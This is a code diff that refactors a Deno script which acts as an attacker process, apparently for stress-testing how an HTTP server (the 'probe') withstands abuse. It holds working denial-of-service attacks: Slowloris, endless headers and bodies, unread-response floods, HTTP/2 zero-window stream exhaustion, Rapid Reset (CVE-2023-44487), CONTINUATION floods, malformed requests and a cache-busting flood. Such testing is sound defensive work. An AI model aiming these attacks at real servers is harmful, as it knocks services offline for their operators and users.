@@ -1,14 +1,14 @@
 /**
- * One who means ill, as a process of its own. Arguments: the probe's address, what to do, how many
- * connections, and a path. Goes on until it is killed. As soon as all connections have been made
- * (or refused) it writes from time to time how much it has sent, in requests or parts of them.
+ * An attacker as a process of its own. Arguments: the probe's address, the shape of the attack, how
+ * many connections, and a path. Runs until it is killed. Once all connections have been opened or
+ * refused, it writes every 100 ms how many requests, or parts of requests, it has sent.
  */
 import { bytesOf, send } from "./bytes.ts";
 import { ODDITIES } from "./oddities.ts";
 
 type Attack = (connection: Deno.Conn, nth: number) => Promise<void>;
 
-const [address, shape, count, path = "/"] = Deno.args;
+const [address = "", shape = "", count, path = "/"] = Deno.args;
 const { hostname, port } = new URL(address);
 let sent = 0;
 
@@ -16,81 +16,86 @@ const HALF = `GET ${path} HTTP/1.1\r\nHost: probe\r\n`;
 const GET = `${HALF}\r\n`;
 
 const HTTP2 = `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${frame(4, 0, 0, "")}`;
-/** GET, http, and the path, as HTTP/2 packs them. */
-const PACKED = `\x82\x86\x04${String.fromCharCode(path.length)}${path}\x41\x05probe`;
+/** The header block of a GET over http. RFC 7541. */
+const HEADER_BLOCK = `\x82\x86\x04${String.fromCharCode(path.length)}${path}\x41\x05probe`;
 
-/** What is done once on each connection, which is then held. */
-const HELD: Record<string, Attack> = {
-  /** Says nothing. */
+/** Attacks that run once on each connection, which then stays open. */
+const ONCE: Record<string, Attack> = {
+  /** Sends nothing. */
   idle: () => Promise.resolve(),
-  /** Begins a request and never ends it. */
-  half: (connection) => say(connection, HALF),
-  /** The same with as many headers as are taken. */
-  halfOfMany: (connection) => say(connection, HALF + headers(60)),
-  /** Begins a request, and sends another header each second. */
+  /** Sends an incomplete request. */
+  half: (connection) => sendPart(connection, HALF),
+  /** The same with as many headers as the server accepts. */
+  halfOfMany: (connection) => sendPart(connection, HALF + headers(60)),
+  /** Sends an incomplete request, and another header every second. */
   async loris(connection) {
-    await say(connection, HALF);
-    for (;; await pause(1_000)) await say(connection, "X-a: b\r\n");
+    await sendPart(connection, HALF);
+    for (;; await pause(1_000)) await sendPart(connection, "X-a: b\r\n");
   },
-  /** Asks and never reads the answer. */
-  unread: (connection) => say(connection, GET),
+  /** Sends a request and never reads the response. */
+  unread: (connection) => sendPart(connection, GET),
   /**
-   * Asks without end, without reading an answer. Not as fast as it can: what is sent before an answer
-   * is there Deno keeps without a bound, so that only the sender's pace would be measured.
+   * Sends requests without end and never reads a response. Not as fast as it can: Deno buffers
+   * requests without a limit until their responses are ready, so that the result would only show
+   * the speed of the sender.
    */
   async unreadOften(connection) {
-    for (;; await pause(10)) await say(connection, GET);
+    for (;; await pause(10)) await sendPart(connection, GET);
   },
-  /** HTTP/2: asks as often as may be at once, and lets nothing come back. */
+  /** HTTP/2: sends as many concurrent requests as are allowed, with a flow-control window of 0. */
   async unreadStreams(connection) {
-    await say(connection, HTTP2 + frame(4, 0, 0, "\0\x04\0\0\0\0"));
+    await sendPart(connection, HTTP2 + frame(4, 0, 0, "\0\x04\0\0\0\0"));
     for (let stream = 1; stream < 200; stream += 2) {
-      await say(connection, frame(1, 5, stream, PACKED));
+      await sendPart(connection, frame(1, 5, stream, HEADER_BLOCK));
     }
   },
 };
 
-/** What is done on a connection until it is refused or over, and then on a new one, without end. */
-const AGAIN: Record<string, Attack> = {
-  /** Headers without end. */
+/** Attacks that run on one connection after the other, each until it is refused or over. */
+const REPEATED: Record<string, Attack> = {
+  /** Sends headers without end. */
   async endlessHeaders(connection) {
-    await say(connection, HALF);
+    await sendPart(connection, HALF);
     await repeat(connection, headers(8));
   },
-  /** A single header without end. */
+  /** Sends a single header without end. */
   async endlessHeader(connection) {
-    await say(connection, `${HALF}X: `);
+    await sendPart(connection, `${HALF}X: `);
     await repeat(connection, "a".repeat(8 * 1024));
   },
-  /** A body without end, which nobody has asked for. */
+  /** Sends an endless body, which no endpoint reads. */
   async endlessBody(connection) {
-    await say(
+    await sendPart(
       connection,
       `POST ${path} HTTP/1.1\r\nHost: probe\r\nContent-Length: 1000000000\r\n\r\n`,
     );
     await repeat(connection, "x".repeat(64 * 1024));
   },
-  /** HTTP/2: asks without end, and takes each question back at once. */
-  async takeBack(connection) {
-    await say(connection, HTTP2);
+  /** HTTP/2: sends requests without end and cancels each at once. CVE-2023-44487. */
+  async rapidReset(connection) {
+    await sendPart(connection, HTTP2);
     for (let stream = 1;; stream += 2) {
-      await say(connection, frame(1, 5, stream, PACKED) + frame(3, 0, stream, "\0\0\0\x08"));
+      await sendPart(
+        connection,
+        frame(1, 5, stream, HEADER_BLOCK) + frame(3, 0, stream, "\0\0\0\x08"),
+      );
       await pause(0);
     }
   },
-  /** HTTP/2: headers that go on in frames without end. */
-  async continued(connection) {
-    await say(connection, HTTP2 + frame(1, 1, 1, PACKED));
+  /** HTTP/2: continues the headers of a request in frames without end. */
+  async continuation(connection) {
+    await sendPart(connection, HTTP2 + frame(1, 1, 1, HEADER_BLOCK));
     await repeat(connection, frame(9, 0, 1, `\0\x01x\x7f\x81\x06${"a".repeat(1e3)}`));
   },
-  /** Asks and leaves; half of the time without waiting for the answer. */
+  /** Sends a request and leaves; every other time without waiting for the response. */
   async churn(connection, nth) {
-    await say(connection, GET);
+    await sendPart(connection, GET);
     if (nth % 2 === 0) await connection.read(new Uint8Array(16 * 1024));
   },
-  /** Asks for what nobody should ask for. */
+  /** Sends malformed and unusual requests. */
   async oddities(connection, nth) {
-    await say(connection, ODDITIES[nth % ODDITIES.length].request);
+    const oddity = ODDITIES[nth % ODDITIES.length];
+    if (oddity) await sendPart(connection, oddity.request);
     if (nth % 2 === 0) await connection.read(new Uint8Array(16 * 1024));
   },
 };
@@ -102,50 +107,50 @@ function frame(type: number, flags: number, stream: number, payload: string): st
   return String.fromCharCode(...[...numbers, ...id].map((each) => each & 255)) + payload;
 }
 
-/** So many headers of a kilobyte. */
+/** `count` headers of a kilobyte each. */
 function headers(count: number): string {
   return Array.from({ length: count }, (_, i) => `X-${i}: ${"a".repeat(1000)}\r\n`).join("");
 }
 
-async function say(connection: Deno.Conn, what: string | Uint8Array): Promise<void> {
-  await send(connection, what);
+async function sendPart(connection: Deno.Conn, data: string | Uint8Array): Promise<void> {
+  await send(connection, data);
   sent++;
 }
 
 async function repeat(connection: Deno.Conn, text: string): Promise<never> {
   const bytes = bytesOf(text);
-  // What is taken at once would leave no turn to the other connections.
-  for (;; await pause(0)) await say(connection, bytes);
+  // A write that completes at once would never let the other connections run.
+  for (;; await pause(0)) await sendPart(connection, bytes);
 }
 
-async function again(attack: Attack): Promise<never> {
+async function runRepeatedly(attack: Attack): Promise<never> {
   for (let nth = 0;; nth++) {
     try {
       using connection = await Deno.connect({ hostname, port: Number(port) });
       await attack(connection, nth);
     } catch {
-      // Refused, as it should be. The others want their turn too.
+      // The server refused it, as it should. The pause lets the other connections run.
       await pause(1);
     }
   }
 }
 
-async function hold(attack: Attack, nth: number): Promise<void> {
+async function runOnce(attack: Attack, nth: number): Promise<void> {
   try {
     const connection = await Deno.connect({ hostname, port: Number(port) });
-    held.push(connection);
-    // Not awaited: who does not read would wait for ever.
+    open.push(connection);
+    // Not awaited: some attacks never end.
     attack(connection, nth).catch(() => {});
   } catch {
-    // There is no room for more.
+    // The server accepts no more connections.
   }
 }
 
-/** Asks as fast as it can, and reads the answers. */
+/** Sends requests as fast as it can, and reads the responses. */
 async function flood(): Promise<never> {
   const accept = path === "/" ? "text/html" : "*/*";
   for (;;) {
-    // A page that is asked for anew each time is not one that is kept.
+    // A query of its own keeps each page from being served from the cache.
     const url = new URL(path === "/" ? `/?before=${1e6 + sent}` : path, address);
     try {
       await (await fetch(url, { headers: { accept } })).bytes();
@@ -160,12 +165,14 @@ function pause(ms: number): Promise<void> {
   return new Promise((resolve) => setTimeout(resolve, ms));
 }
 
-/** Connections that nothing else refers to must not be collected. */
-const held: Deno.Conn[] = [];
+/** Keeps the connections from being collected as garbage, which would close them. */
+const open: Deno.Conn[] = [];
 
 for (let nth = 0; nth < Number(count); nth++) {
-  if (shape in HELD) await hold(HELD[shape], nth);
-  else if (shape in AGAIN) again(AGAIN[shape]);
+  const once = ONCE[shape];
+  const repeated = REPEATED[shape];
+  if (once) await runOnce(once, nth);
+  else if (repeated) runRepeatedly(repeated);
   else flood();
 }
-setInterval(() => console.log(Math.max(sent, held.length)), 100);
+setInterval(() => console.log(Math.max(sent, open.length)), 100);
